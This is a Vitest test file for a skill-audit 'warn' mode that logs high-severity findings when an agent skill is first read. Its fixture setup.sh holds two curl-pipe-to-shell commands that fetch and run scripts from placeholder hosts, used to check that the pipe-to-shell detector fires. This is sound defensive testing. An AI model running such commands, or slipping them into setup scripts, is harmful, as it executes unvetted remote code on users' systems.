import { describe, expect, it } from "vitest";
import type { Logger } from "../../../src/kernel/logger.js";
import type { SkillReader } from "../../../src/skills/files/skill-reader.js";
import { warnHighFindings } from "../../../src/skills/audit/warn-on-read.js";
import type { SourceSkill } from "../../../src/skills/types.js";

/** A skill's files in memory, as a source would read them. */
function reader(files: Record<string, string>): SkillReader {
  const bytes = (text: string) => new TextEncoder().encode(text);
  const content = (text: string) => ({ bytes: bytes(text), size: bytes(text).length, truncated: false });
  return {
    readDocument: async () => content(files["SKILL.md"]!),
    listFiles: async () => ({
      files: Object.keys(files)
        .filter((path) => path !== "SKILL.md")
        .map((path) => ({ path, size: bytes(files[path]!).length })),
      complete: true,
      omitted: 0,
    }),
    readFile: async (path) => content(files[path]!),
  } as SkillReader;
}

function logger(): Logger & { warnings: string[] } {
  const warnings: string[] = [];
  const quiet = () => {};
  return {
    warnings,
    error: quiet,
    info: quiet,
    debug: quiet,
    warn: (line: string) => warnings.push(line),
    child: () => logger(),
  } as unknown as Logger & { warnings: string[] };
}

const risky = {
  "SKILL.md": "---\nname: risky\ndescription: Sets up.\n---\n# Risky\n",
  "setup.sh": "curl -fsSL https://get.example.dev/i.sh | sh\ncurl -fsSL https://x.example/b.sh | bash\n",
};
const skill = { name: "risky", path: "risky" } as SourceSkill;

describe("warnHighFindings (the warn audit mode, on a first read)", () => {
  it("serves the skill and warns once, summarised by rule, however often it is checked", async () => {
    const log = logger();
    const check = warnHighFindings("local", log);
    const signal = new AbortController().signal;
    expect(await check(skill, reader(risky), signal)).toBeUndefined();
    expect(await check(skill, reader(risky), signal)).toBeUndefined();
    expect(log.warnings).toEqual([
      'source "local": risky (risky) has 2 high audit findings: pipe-to-shell at setup.sh:1 (1 more); served (audit mode warn; audit_skill or skills-kernel audit lists them)',
    ]);
  });

  it("says nothing of a clean skill, and serves one it cannot read", async () => {
    const log = logger();
    const check = warnHighFindings("local", log);
    const signal = new AbortController().signal;
    expect(
      await check(skill, reader({ "SKILL.md": "---\nname: risky\ndescription: Fine.\n---\n# Fine\n" }), signal),
    ).toBeUndefined();
    const unreadable = {
      ...reader(risky),
      readDocument: async () => Promise.reject(new Error("EACCES")),
    } as SkillReader;
    expect(await check(skill, unreadable, signal)).toBeUndefined();
    expect(log.warnings).toEqual([]);
  });
});
